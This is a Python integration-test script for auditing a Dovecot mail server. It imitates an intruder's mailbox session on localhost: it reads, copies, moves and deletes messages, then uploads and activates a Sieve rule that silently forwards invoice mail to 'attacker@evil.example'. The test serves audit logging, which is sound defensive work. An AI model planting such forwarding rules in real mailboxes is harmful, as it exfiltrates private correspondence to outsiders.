"""A mailbox session of the kind an intruder runs, for the Dovecot audit integration test.

usage: imap_audit_session.py IMAP_PORT MANAGESIEVE_PORT USER PASSWORD
Prints one JSON object: what the server answered (APPENDUIDs, COPYUID) so the test can check UIDs.
"""
import base64, imaplib, json, socket, sys

imap_port, sieve_port, user, password = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
out = {}

m = imaplib.IMAP4('127.0.0.1', imap_port)
m.login(user, password)
m.create('Archive')
for i in range(1, 6):
    m.append('INBOX', None, None,
             f'From: boss@example.org\r\nSubject: invoice {i}\r\nMessage-ID: <inv{i}@example.org>\r\n\r\nbody {i}\r\n'.encode())
m.select('INBOX')
out['search'] = m.uid('SEARCH', None, 'SUBJECT', 'invoice')[1][0].decode()
m.uid('FETCH', '1:3', '(BODY.PEEK[])')                       # reads 1, 2, 3
m.uid('STORE', '1', '+FLAGS', '(\\Flagged)')                  # Update
out['copy'] = m.uid('COPY', '2', 'Archive')[0]                # Copy
m._simple_command('UID', 'MOVE', '3', 'Archive')              # Move
m._simple_command('UID', 'MOVE', '4', 'Trash')                # MoveToDeletedItems
m.uid('STORE', '5', '+FLAGS', '(\\Deleted)')                  # SoftDelete
m.expunge()                                                    # HardDelete of 5
m.logout()

# ManageSieve (RFC 5804): upload and activate a rule that forwards invoices to an outsider.
s = socket.create_connection(('127.0.0.1', sieve_port))
f = s.makefile('rb')
def response():
    lines = []
    while True:
        line = f.readline().rstrip(b'\r\n')
        lines.append(line.decode())
        if line.endswith(b'}') and b'{' in line:
            lines.append(f.read(int(line[line.rindex(b'{') + 1:-1].rstrip(b'+'))).decode())
            continue
        if line.split(b' ')[0] in (b'OK', b'NO', b'BYE'):
            return lines
def command(text):
    s.sendall(text.encode() + b'\r\n')
    return response()
response()
token = base64.b64encode(f'\0{user}\0{password}'.encode()).decode()
assert command(f'AUTHENTICATE "PLAIN" "{token}"')[-1].startswith('OK'), 'managesieve login'
script = 'require ["copy"];\r\n# redirect "commented@out.example";\r\nif header :contains "subject" "invoice" { redirect :copy "attacker@evil.example"; }\r\n'
assert command(f'PUTSCRIPT "forward" {{{len(script.encode())}+}}\r\n{script}')[-1].startswith('OK'), 'putscript'
assert command('SETACTIVE "forward"')[-1].startswith('OK'), 'setactive'
command('LOGOUT')
print(json.dumps(out))
